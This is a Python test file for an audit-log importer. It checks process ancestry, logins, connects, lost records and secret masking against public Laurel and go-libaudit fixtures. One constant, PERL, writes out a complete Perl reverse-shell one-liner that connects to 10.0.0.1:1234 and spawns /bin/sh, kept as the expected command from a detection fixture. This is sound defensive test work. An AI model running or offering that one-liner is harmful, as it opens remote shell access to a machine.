"""The audit importer on the public fixtures of Laurel and go-libaudit (tests/fixtures/audit/,
origin and licence in each folder's README): every file is imported through the real path
(import_lines, then ingest into a store on disk), and what the store then holds - each
command's argv and its ancestry, logins, connects, lost records, garbage lines - is compared
whole with what the raw records say. The expectations were written from the records
(EXECVE's a0.., SYSCALL's pid/ppid and clone exits), not from the importer's output."""

from __future__ import annotations

import re

import pytest

from audit_corpus import FIXTURES, GO_LIBAUDIT, LAUREL, import_into, log_lines, yaml_logs

SCRIPT = "./src/testdata/double-fork/test-script.sh"
# A process whose exec is not in the log (already running) stands on the chain by its record's
# comm, and its parent is its record's ppid (the import's snapshot images, docs/audit.md "Processes").
SHELL = "71432:bash < 3505"
# Laurel's shell-proc-trace: `( /bin/echo foo | /bin/sed -e 's/foo/bar/' ) | /bin/grep bar` run by
# dash 71505 (forked by the login shell 71432): it forks the subshell 71506 and grep 71507; the
# subshell forks echo 71508 and sed 71509. Every exec's parent is the process whose clone made it.
PIPELINE = {
    "bash": SHELL,
    SCRIPT: f"71505:{SCRIPT} < {SHELL}",
    "grep baz": f"71507:grep baz < 71505:{SCRIPT} < {SHELL}",
    "/bin/echo foo": f"71508:/bin/echo foo < 71506 < 71505:{SCRIPT} < {SHELL}",
    "/bin/sed -e s/foo/bar/": f"71509:/bin/sed -e s/foo/bar/ < 71506 < 71505:{SCRIPT} < {SHELL}",
}
PIPELINE_FORKS = [(71505, 71432), (71506, 71505), (71507, 71505), (71508, 71506), (71509, 71506)]
PIPELINE_EXECS = [(71505, 71432), (71507, 71505), (71508, 71506), (71509, 71506)]      # (pid, ppid)
SSHD = "1140452:sshd < 1140356"
BASH = f"1140453:-bash < {SSHD}"
DPKG = f"1140462:dpkg -l ; dpkg-query --list -- < {BASH}"
PERL = ('use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
        'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");'
        'open(STDERR,">&S");exec("/bin/sh -i");};')
WEBLOGIC = ("/usr/java/jdk1.8.0_151/bin/java -server -Djava.security.egd=file:/dev/./urandom -cp "
            "/u01/oracle/wlserver/server/lib/weblogic-launcher.jar -Dlaunch.use.env.classpath=true "
            "-Dweblogic.Name=AdminServer -Djava.security.policy=/u01/oracle/wlserver/server/lib/weblogic.policy "
            "-Djava.system.class.loader=com.oracle.classloader.weblogic.LaunchClassLoader "
            "-javaagent:/u01/oracle/wlserver/server/lib/debugpatch-agent.jar -da "
            "-Dwls.home=/u01/oracle/wlserver/server -Dweblogic.home=/u01/oracle/wlserver/server weblogic.Server")
CSH = "2542:-csh -c /tmp/REDACTED.csh < 2532"
POSTFIX = {"master": "1229:master < 1", "pickup": "12992:pickup < 1229:master < 1",
           "google_accounts": "1172:google_accounts < 1"}            # accept()s, a connect in progress
LIBAUDIT_EXECS = {"grep --color=auto mapping": "13393:grep --color=auto mapping < 12041",
                  "cat securitybeat": "13392:cat securitybeat < 12041", **POSTFIX}


def long_echo_arg() -> str:
    """record-execve-long's a1, read straight off its EXECVE lines: the a1[n] hex parts joined."""
    text = (LAUREL / "record-execve-long.txt").read_text()
    return bytes.fromhex("".join(re.findall(r"a1\[\d+\]=([0-9A-F]+)", text))).decode()


def missing(path) -> int:
    """The serial numbers a log whose serials only rise skips: records lost, or edited out."""
    serials = sorted({int(s) for s in re.findall(r"msg=audit\(\d+\.\d+:(\d+)\)", path.read_text())})
    return sum(b - a - 1 for a, b in zip(serials, serials[1:]))


# file -> what its import stores: chains (command -> ancestry), logins (user, addr, port,
# method), connects (pid, addr, port), records lost (sum of the gaps), garbage lines
EXPECTED: dict[str, dict] = {
    # Laurel ------------------------------------------------------------------------------------
    "laurel/shell-proc-trace.txt": dict(chains=PIPELINE, garbage=24),
    "laurel/shell-proc-trace-reordered.txt": dict(chains=PIPELINE, garbage=3),    # EOEs last, newest first
    "laurel/proc-trace-dpkg-l.txt": dict(garbage=5, chains={
        "sshd": SSHD,
        "-bash": BASH,
        "/usr/bin/locale-check C.UTF-8": f"1140454:/usr/bin/locale-check C.UTF-8 < {BASH}",
        "locale": f"1140455:locale < {BASH}",
        "/usr/bin/lesspipe": f"1140457:/usr/bin/lesspipe < {BASH}",
        "basename /usr/bin/lesspipe": f"1140458:basename /usr/bin/lesspipe < 1140457:/usr/bin/lesspipe < {BASH}",
        "dirname /usr/bin/lesspipe": f"1140460:dirname /usr/bin/lesspipe < 1140459 < 1140457:/usr/bin/lesspipe < {BASH}",
        "dircolors -b": f"1140461:dircolors -b < {BASH}",
        "dpkg-query --list --": DPKG,                 # dpkg execs dpkg-query: one process, two images
        "sh -c -- pager": f"1140463:sh -c -- pager < {DPKG}",
        "pager": f"1140464:pager < 1140463:sh -c -- pager < {DPKG}"}),
    # the rm of pid 2655 (root, 0.8 s before) and the csh tcsh forks as 2655 later are two processes
    "laurel/shell-proc-trace-confusion.txt": dict(garbage=25, lost=missing(LAUREL / "shell-proc-trace-confusion.txt"),
                                                  chains={
        "rm -f /tmp/2643A1 /tmp/2643A2 /tmp/2643XX": "2655:rm -f /tmp/2643A1 /tmp/2643A2 /tmp/2643XX < 2643",
        "-csh -c /tmp/REDACTED.csh": CSH,
        "hostname": f"2643:hostname < {CSH}",
        "awk -F) {print $1}": f"2655:awk -F) {{print $1}} < {CSH}",
        "id": f"2656:id < 2655:awk -F) {{print $1}} < {CSH}"}),
    # execve("/bin/true", NULL, NULL): the kernel logs a0="" - stored under the program's path;
    # the orphan (seen first cloning, as uncaring-parent) keeps the parent its first record showed
    "laurel/fork-sleep-exec.txt": dict(garbage=14, lost=1, chains={               # serial 6104006
        "/home/user/bin/uncaring-parent": "1578539:/home/user/bin/uncaring-parent < 3822680",
        "/bin/true": "1578540:uncaring-parent ; /bin/true < 1578539:/home/user/bin/uncaring-parent < 3822680"}),
    "laurel/record-execve.txt": dict(chains={"whoami": "10884:whoami < 10883"}),
    "laurel/record-execve-long.txt": dict(chains={f"/bin/echo {long_echo_arg()}": f"8832:/bin/echo {long_echo_arg()} < 10881"}),
    "laurel/record-perl-reverse-shell.txt": dict(chains={f"perl -e {PERL}": f"724395:perl -e {PERL} < 722076"}),
    "laurel/record-weblogic.txt": dict(chains={WEBLOGIC: f"1362221:{WEBLOGIC} < 1362170"}),
    "laurel/record-syscall-key.txt": dict(chains={"cat": "6382:cat < 3193"}),
    # an execve with no EXECVE record: the command is its comm
    "laurel/record-syscall-nullkey.txt": dict(chains={"(systemd)": "3489504:(systemd) < 1"}),
    "laurel/record-connect.txt": dict(connects=[(1074252, "127.0.0.1", 11211), (1074252, "::1", 11211)],
                                      chains={"php": "1074252:php < 1074250"}),
    # cron's LOGIN with its write(): sets a login uid, no login
    "laurel/record-login.txt": dict(chains={"cron": "72605:cron < 519"}),
    "laurel/line-user-acct.txt": dict(),        # a USER_ACCT from cron: no login
    # records of syscalls whodid does not use: with ENRICHED names (SYSCALL=adjtimex, ...) the
    # process is still seen running; without them (ptrace, bind on s390x) the record is skipped
    "laurel/record-adjntpval.txt": dict(chains={"chronyd": "820:chronyd < 1"}),
    "laurel/record-anom-promiscuous.txt": dict(chains={"dockerd": "13877:dockerd < 1"}),
    "laurel/record-avc-apparmor.txt": dict(chains={"apparmor_parser": "3981295:apparmor_parser < 3981294"}),
    "laurel/record-nscd.txt": dict(chains={"ls": "3736674:ls < 1064378"}),      # a unix-socket connect
    "laurel/record-service-start.txt": dict(chains={"systemd": "1:systemd < 0"}),
    "laurel/record-bind-ipv4-bigendian.txt": dict(), "laurel/record-ptrace.txt": dict(),
    "laurel/record-uringop.txt": dict(),
    "laurel/tree/README.txt": dict(garbage=3),  # prose, not a log
    # go-libaudit -------------------------------------------------------------------------------
    "go-libaudit/testdata/normal.log": dict(chains=LIBAUDIT_EXECS, connects=[(1172, "169.254.169.254", 80)]),
    "go-libaudit/testdata/out_of_order.log": dict(chains=LIBAUDIT_EXECS, connects=[(1172, "169.254.169.254", 80)]),
    "go-libaudit/testdata/lost_messages.log": dict(chains=LIBAUDIT_EXECS, connects=[(1172, "169.254.169.254", 80)],
                                                   lost=9),        # serials 50..58
    # the serial counter wraps 4294967295 -> 0: no records lost, no reboot
    "go-libaudit/testdata/rollover.log": dict(chains={"cat": "13392:cat < 12041", **POSTFIX}),
    "go-libaudit/auparse/audit-rhel6.log": dict(),
    # auparse's logs are records of many hosts, boots and days cut together: their serials jump
    # up and down, and the gaps (rises under a million) are counted as the rule says
    # sshd's USER_AUTH gives the login's port
    "go-libaudit/auparse/audit-rhel7.log": dict(garbage=1, lost=1_078_059,
                                                chains={"google_ip_forwa": "1170:google_ip_forwa < 1"},
                                                logins=[("andrew_kroh", "96.241.146.97", 63927, "publickey")]),
    "go-libaudit/auparse/audit-ubuntu14.log": dict(),
    "go-libaudit/auparse/audit-ubuntu16.log": dict(logins=[("1001", "72.83.230.100", 0, "other")],
                                                   lost=(61207 - 12651 - 1)),      # 19955, 12651, 61207
    "go-libaudit/auparse/audit-ubuntu17.log": dict(chains={"grep": "27854:grep < 27851"}),
    "go-libaudit/auparse/test2.log": dict(),
    "go-libaudit/auparse/test3.log": dict(lost=1 + (194894 - 194440 - 1) + (10262 - 1865 - 1)),   # 194434 too
    "go-libaudit/aucoalesce/ubuntu-16.10-linux-4.8.0.yaml:EXECVE": dict(chains={"uname -a": "10043:uname -a < 10027"}),
    "go-libaudit/aucoalesce/ubuntu-16.10-linux-4.8.0.yaml:connect syscall": dict(
        connects=[(1648, "169.254.169.254", 80)], chains={"google_ip_forwa": "1648:google_ip_forwa < 1"}),
    "go-libaudit/aucoalesce/ubuntu-16.10-linux-4.8.0.yaml:accept syscall": dict(chains={"sshd": "1663:sshd < 1"}),
    "go-libaudit/aucoalesce/ubuntu-16.10-linux-4.8.0.yaml:USER_START": dict(
        logins=[("andrew_kroh", "72.83.230.100", 0, "other")]),
    "go-libaudit/aucoalesce/ubuntu-16.10-linux-4.8.0.yaml:USER_LOGIN success": dict(
        logins=[("1001", "72.83.230.100", 0, "other")]),
    "go-libaudit/aucoalesce/ubuntu-17.04-linux-4.10.0.yaml:EXECVE with multiple keys": dict(
        chains={"docker inspect 721df12151a7": "5821:docker inspect 721df12151a7 < 5820"}),
    "go-libaudit/aucoalesce/ubuntu-20.04.6-linux-5.15.0-1034-gcp.yaml:file_mode_preservation": dict(
        chains={"dash -p": "2380168:dash -p < 2380071"}),
}
# Laurel's tree/: one `apt-get update` in 17 files; each holds one exec, its parent apt-get (722676)
TREE = ["apt-get update", "/usr/bin/dpkg --print-foreign-architectures", "/usr/lib/apt/methods/http",
        "/usr/lib/apt/methods/https", "/usr/lib/apt/methods/https", "/usr/lib/apt/methods/https",
        "/usr/lib/apt/methods/http", "/usr/lib/apt/methods/gpgv", "/usr/lib/apt/methods/gpgv",
        "/usr/lib/apt/methods/rred", "/usr/lib/apt/methods/rred", "/usr/lib/apt/methods/rred",
        "/usr/lib/apt/methods/rred", "/usr/lib/apt/methods/store", "/usr/lib/apt/methods/store",
        "/usr/bin/dpkg --print-foreign-architectures", "/usr/bin/dpkg --print-foreign-architectures"]
TREE_PIDS = [722676, 722677, 722678, 722679, 722680, 722681, 722682, 722689, 722691, 723173, 723175, 723188,
             723190, 723197, 723198, 723219, 723222]
for n, (cmd, pid) in enumerate(zip(TREE, TREE_PIDS)):
    parent = "722675" if n == 0 else "722676"        # apt-get's exec is in 00.txt, alone
    EXPECTED[f"laurel/tree/{n:02}.txt"] = dict(chains={cmd: f"{pid}:{cmd} < {parent}"})


def sources() -> dict[str, list[str]]:
    """Every raw log among the fixtures, by name: files, and each scenario of a YAML file."""
    out = {}
    for path in sorted(FIXTURES.rglob("*")):
        name = str(path.relative_to(FIXTURES))
        if path.suffix in (".txt", ".log") and path.parent != GO_LIBAUDIT:      # not LICENSE.txt, NOTICE.txt
            out[name] = log_lines(path)
        elif path.suffix == ".yaml":
            out.update((f"{name}:{scenario}", lines) for scenario, lines in yaml_logs(path).items())
    return out


SOURCES = sources()


def test_every_fixture_has_its_expectation():
    # a scenario not in EXPECTED must make nothing: every one is named either way
    assert set(EXPECTED) <= set(SOURCES)
    assert len(SOURCES) == 40 + 11 + 48      # Laurel's files, go-libaudit's logs, its YAML scenarios


@pytest.mark.parametrize("name", sorted(SOURCES))
def test_a_fixtures_commands_and_their_ancestry_are_exact(name, tmp_path):
    assert import_into(tmp_path / "w.db", SOURCES[name]).chains() == EXPECTED.get(name, {}).get("chains", {})


@pytest.mark.parametrize("name", sorted(SOURCES))
def test_a_fixtures_logins_connects_losses_and_garbage_are_exact(name, tmp_path):
    want = EXPECTED.get(name, {})
    imp = import_into(tmp_path / "w.db", SOURCES[name])
    assert [(e["user"], e["raddr"], e["rport"], e["method"]) for e in imp.of("login")] == want.get("logins", [])
    assert [(e["pid"], e["raddr"], e["rport"]) for e in imp.of("connect")] == want.get("connects", [])
    assert sum(e["count"] for e in imp.of("loss")) == want.get("lost", 0)
    assert imp.garbage() == want.get("garbage", 0)


def test_the_apt_get_tree_read_as_one_log_is_one_tree(tmp_path):
    lines = [line for n in range(17) for line in log_lines(LAUREL / "tree" / f"{n:02}.txt")]
    chains = import_into(tmp_path / "w.db", lines).chains()
    assert len(chains) == len(set(TREE)) and all(
        chains[cmd].endswith("722676:apt-get update < 722675") for cmd in TREE)


# --- the bugs issue 18 names, each on the fixture that shows it ------------------------------------

def test_eoes_written_out_of_order_keep_every_fork(tmp_path):
    # all nine EOEs come after the records, newest first: the child's exec was assembled before
    # the clone that made it, and each command stood alone (a chain of one)
    imp = import_into(tmp_path / "w.db", log_lines(LAUREL / "shell-proc-trace-reordered.txt"))
    assert [(e["pid"], e["ppid"]) for e in imp.of("fork")] == PIPELINE_FORKS
    assert [(e["pid"], e["ppid"]) for e in imp.of("exec") if not e.get("snapshot")] == PIPELINE_EXECS


def test_an_empty_argv0_is_stored_as_the_program_run_and_found_by_search(tmp_path):
    imp = import_into(tmp_path / "w.db", log_lines(LAUREL / "fork-sleep-exec.txt"))
    (true,) = [e for e in imp.of("exec") if e["pid"] == 1578540 and not e.get("snapshot")]
    assert true["argv"] == ["/bin/true"]
    found = imp.store.search_commands("true", glob=False, since=None, until=None, host_glob=None, limit=5)
    assert [(p.pid, i.argv) for p, i in found] == [(1578540, ["/bin/true"])]


def test_a_long_argument_in_hex_parts_is_whole(tmp_path):
    imp = import_into(tmp_path / "w.db", log_lines(LAUREL / "record-execve-long.txt"))
    (ex,) = imp.of("exec")
    arg = long_echo_arg()
    assert len(arg) == 8192 and ex["argv"] == ["/bin/echo", arg] and "truncated" not in ex
    # each of the three parts begins with its own letter (b, d, f): all there, in order
    parts = re.findall(r"a1\[\d+\]=([0-9A-F]+)", (LAUREL / "record-execve-long.txt").read_text())
    starts = [sum(len(p) // 2 for p in parts[:n]) for n in range(len(parts))]
    assert [arg[i] for i in starts] == ["b", "d", "f"]


def test_a_multibyte_character_split_between_hex_parts_is_decoded_whole(tmp_path):
    word = "Grüße aus Zürich " * 3                          # ü, ß: two bytes each in UTF-8
    raw = word.encode().hex().upper()
    cut = raw.index("C3BC") + 2                            # between ü's two bytes
    log = ["type=SYSCALL msg=audit(1700000000.000:10): arch=c000003e syscall=59 success=yes exit=0 a0=0 a1=0 "
           "a2=0 a3=0 items=1 ppid=1 pid=500 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 "
           'sgid=1000 fsgid=1000 tty=pts0 ses=2 comm="echo" exe="/bin/echo" key=(null)\n',
           f'type=EXECVE msg=audit(1700000000.000:10): argc=2 a0="echo" a1_len={len(raw)} a1[0]={raw[:cut]}\n',
           f"type=EXECVE msg=audit(1700000000.000:10): a1[1]={raw[cut:]}\n",
           "type=EOE msg=audit(1700000000.000:10): \n"]
    (ex,) = import_into(tmp_path / "w.db", log).of("exec")
    assert ex["argv"] == ["echo", word]


def test_a_quoted_none_is_no_tty(tmp_path):
    # this log quotes every value, tty="(none)" too: no exec of it ran on a terminal
    imp = import_into(tmp_path / "w.db", log_lines(LAUREL / "shell-proc-trace-confusion.txt"))
    assert len(imp.of("exec")) == 5 and [e for e in imp.of("exec") if "tty" in e] == []


def test_a_login_record_grouped_with_its_syscall_is_used(tmp_path):
    # cron sets its login uid by a write() to /proc/self/loginuid: LOGIN, SYSCALL and EOE share a serial
    imp = import_into(tmp_path / "w.db", log_lines(LAUREL / "record-login.txt"))
    assert imp.report.records["LOGIN"] == 1 and imp.report.used["LOGIN"] == 1


def test_sshds_user_auth_gives_the_logins_port_and_account(tmp_path):
    # USER_AUTH 'op=pubkey_auth rport=63927 acct="andrew_kroh" addr=96.241.146.97'; PAM's
    # USER_START and sshd's USER_LOGIN name neither the port nor (USER_LOGIN) the account
    imp = import_into(tmp_path / "w.db", log_lines(GO_LIBAUDIT / "auparse" / "audit-rhel7.log"))
    (login,) = imp.of("login")
    assert (login["user"], login["raddr"], login["rport"], login["method"], login["pid"], login["ses"]) == (
        "andrew_kroh", "96.241.146.97", 63927, "publickey", 1298, 1)


def test_the_serial_counter_wrapping_is_no_reboot(tmp_path):
    # rollover.log: serials 4294967294, 4294967295, 0, 1, 2 within 1 ms - the kernel's 32-bit
    # counter wrapped. cat (13392) then execs again at serial 3: the same process on the same
    # boot, not a new boot whose table forgot it
    after = ["type=SYSCALL msg=audit(1492037298.885:3): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 "
             "a3=4 items=1 ppid=12041 pid=13392 auid=1000 uid=1000 gid=1001 euid=1000 suid=1000 fsuid=1000 egid=1001 "
             'sgid=1001 fsgid=1001 tty=pts1 ses=802 comm="ls" exe="/usr/bin/ls" key=(null)\n',
             'type=EXECVE msg=audit(1492037298.885:3): argc=1 a0="ls"\n', "type=EOE msg=audit(1492037298.885:3): \n"]
    imp = import_into(tmp_path / "w.db", log_lines(GO_LIBAUDIT / "testdata" / "rollover.log") + after)
    assert {e["boot"] for e in imp.events} == {"audit:h"} and imp.of("loss") == []
    assert imp.chains()["ls"] == "13392:cat ; ls < 12041"


def test_auditds_own_records_without_a_colon_are_records_not_garbage(tmp_path):
    # `type=DAEMON_CONFIG msg=audit(1490239800.477:34) config changed, ...`: old auditd wrote no ':'
    imp = import_into(tmp_path / "w.db", log_lines(GO_LIBAUDIT / "auparse" / "audit-rhel7.log"))
    assert imp.report.records["DAEMON_CONFIG"] == 1
    assert imp.report.samples == ["lines that are not audit records: 'type=UNKNOWN[1329] msg=?\\n'"]


# --- redaction: every way an argument leaves the import -----------------------------------------
# The agent masks secrets in command lines before they leave the host; an imported or tailed
# audit log is the same data, and every path its argv is built by goes through the same rules.

SECRET = "Hunter2"


def execve_event(serial: int, pid: int, execve: list[str], *, comm="x", exe="/usr/bin/x", extra=()) -> list[str]:
    stamp = f"msg=audit(1700000000.{serial:03}:{serial}):"
    return [f"type=SYSCALL {stamp} arch=c000003e syscall=59 success=yes exit=0 a0=0 a1=0 a2=0 a3=0 items=2 ppid=1 "
            f"pid={pid} auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 "
            f'tty=pts0 ses=2 comm="{comm}" exe="{exe}" key=(null)\n',
            *[f"type={r} {stamp} {body}\n" for r, body in [*(("EXECVE", b) for b in execve), *extra]],
            f"type=EOE {stamp} \n"]


def hexed(s: str) -> str:
    return s.encode().hex().upper()


def secret_paths() -> dict[str, tuple[list[str], list[str]]]:
    """path name -> (audit lines, the argv whodid must store)."""
    bearer = "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.c2VjcmV0.Hunter2"
    script = "x" * 4000 + f"; mysql -p{SECRET} db"
    raw = hexed(script)
    cut = raw.index(hexed(SECRET)) + 6                     # the parts split inside the password
    title = "curl\x00https://deploy:" + SECRET + "x" * 200    # the kernel keeps 128 bytes of it
    return {
        "EXECVE, quoted": (execve_event(1, 101, [f'argc=2 a0="mysql" a1="-p{SECRET}"']), ["mysql", "-p***"]),
        "EXECVE, hex (a space)": (execve_event(2, 102, [f'argc=3 a0="curl" a1="-H" a2={hexed(bearer)}']),
                                  ["curl", "-H", "Authorization: Bearer ***"]),
        "EXECVE, split in hex parts": (
            execve_event(3, 103, [f'argc=3 a0="bash" a1="-c" a2_len={len(raw)} a2[0]={raw[:cut]}', f"a2[1]={raw[cut:]}"]),
            ["bash", "-c", "x" * 4000 + "; mysql -p*** db"]),
        "PROCTITLE, no EXECVE": (
            execve_event(4, 104, [], extra=[("PROCTITLE", f"proctitle={hexed(chr(0).join(['mysql', '-p' + SECRET]))}")]),
            ["mysql", "-p***"]),
        "PROCTITLE, cut at 128 bytes": (
            execve_event(5, 105, [], extra=[("PROCTITLE", f"proctitle={hexed(title[:128])}")]),
            ["curl", "https://deploy:***"]),
        "PATH item 0, a script run by its interpreter": (
            execve_event(6, 106, [f'argc=3 a0="/bin/sh" a1="/opt/deploy.sh" a2="--password={SECRET}"'],
                         extra=[("PATH", 'item=0 name="/opt/deploy.sh" nametype=NORMAL')]),
            ["/opt/deploy.sh", "--password=***"]),
        "PATH item 0, an empty a0": (
            execve_event(7, 107, [f'argc=2 a0="" a1="--password={SECRET}"'],
                         extra=[("PATH", 'item=0 name="/opt/deploy" nametype=NORMAL')]),
            ["/opt/deploy", "--password=***"]),
    }


@pytest.mark.parametrize("path", sorted(secret_paths()))
def test_a_secret_is_masked_on_every_path_an_imported_argv_is_built_by(path, tmp_path):
    lines, argv = secret_paths()[path]
    imp = import_into(tmp_path / "w.db", lines)
    assert [e["argv"] for e in imp.of("exec")] == [argv]
    imp.store.close()
    assert SECRET.encode() not in b"".join(p.read_bytes() for p in tmp_path.iterdir())


def test_the_configured_rules_apply_to_an_import(tmp_path):
    from whodid.tracer.redact import compile_rules
    lines = execve_event(1, 101, ['argc=3 a0="deploy" a1="--ticket" a2="corp-123456"'])
    imp = import_into(tmp_path / "w.db", lines, rules=compile_rules(["corp-[0-9]{6}"]))
    assert [e["argv"] for e in imp.of("exec")] == [["deploy", "--ticket", "***"]]


def test_a_log_that_is_not_audits_keeps_its_secrets_out_of_the_summary(tmp_path):
    # a shell history given by mistake: its lines are garbage, and the samples shown are masked
    imp = import_into(tmp_path / "w.db", [f"mysql -p{SECRET} prod\n"])
    assert imp.garbage() == 1 and SECRET not in imp.report.summary() and "-p***" in imp.report.summary()


def test_the_live_tail_masks_every_path_too(tmp_path):
    from whodid.agent.audit import AuditTail
    log = tmp_path / "audit.log"
    log.write_text("")
    tail = AuditTail(str(log), "h")
    try:
        # the tail reads only what is written after it opened the file: write until it sees
        # the first event, then everything
        events: list[dict] = []
        for serial in range(100, 200):                     # bounded: a tail that sees nothing fails
            with open(log, "a") as fh:
                fh.writelines(execve_event(serial, 9000 + serial, [f'argc=2 a0="mysql" a1="-p{SECRET}"']))
            events += tail.poll(200)
            if events:
                break
        with open(log, "a") as fh:
            for lines, _ in secret_paths().values():
                fh.writelines(lines)
        want = [argv for _, argv in secret_paths().values()]
        for _ in range(100):
            events += tail.poll(200)
            if all(argv in [e["argv"] for e in events if e["kind"] == "exec"] for argv in want):
                break
        events += tail.drain()
    finally:
        tail.close()
    got = [e["argv"] for e in events if e["kind"] == "exec"]
    assert all(argv in got for argv in want) and SECRET not in repr(events)
